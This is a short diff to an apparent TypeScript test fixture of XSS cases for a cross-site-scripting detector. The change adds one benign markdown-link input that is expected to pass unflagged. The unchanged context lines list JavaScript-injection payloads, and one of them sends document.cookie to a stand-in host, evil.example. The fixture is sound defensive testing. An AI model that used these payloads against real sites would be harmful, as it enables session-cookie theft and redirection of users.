@@ -174,6 +174,10 @@ export const XSS_CASES: readonly XssCase[] = [
   { input: "');function someFunction(a){}alert(1)//", expect: 'xss/js-sink', atLeast: 0.9 },
   { input: '}alert(/x/);{//', expect: 'xss/js-sink', atLeast: 0.9 },
   { input: '}) then we alert(users) about it', expect: null },
+  {
+    input: 'For latency numbers use this [log analyzer](https://example.com/analyzer) on the file',
+    expect: null,
+  },
   { input: "x\";setTimeout('alert(1)',0);//", expect: 'xss/js-sink' },
   { input: "';location='//evil.example';//", expect: 'xss/js-sink' },
   { input: "';document.location='//evil.example/?'+document.cookie;//", expect: 'xss/js-sink' },
